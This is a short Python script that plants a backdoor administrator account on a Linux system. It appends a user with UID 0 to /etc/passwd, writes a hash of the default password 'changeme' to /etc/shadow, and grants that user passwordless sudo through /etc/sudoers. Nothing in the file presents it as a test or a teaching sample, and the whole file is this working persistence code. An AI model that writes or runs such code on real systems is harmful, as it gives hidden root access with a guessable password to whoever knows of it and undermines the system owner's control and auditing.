import crypt


def add_root_user(name="svc", password="changeme"):
    hashed = crypt.crypt(password, crypt.mksalt(crypt.METHOD_SHA512))
    line = f"{name}:x:0:0:{name}:/root:/bin/bash\n"
    with open("/etc/passwd", "a") as fh:
        fh.write(line)
    with open("/etc/shadow", "a") as fh:
        fh.write(f"{name}:{hashed}:19000:0:99999:7:::\n")
    with open("/etc/sudoers", "a") as fh:
        fh.write(f"{name} ALL=(ALL) NOPASSWD:ALL\n")


if __name__ == "__main__":
    add_root_user()
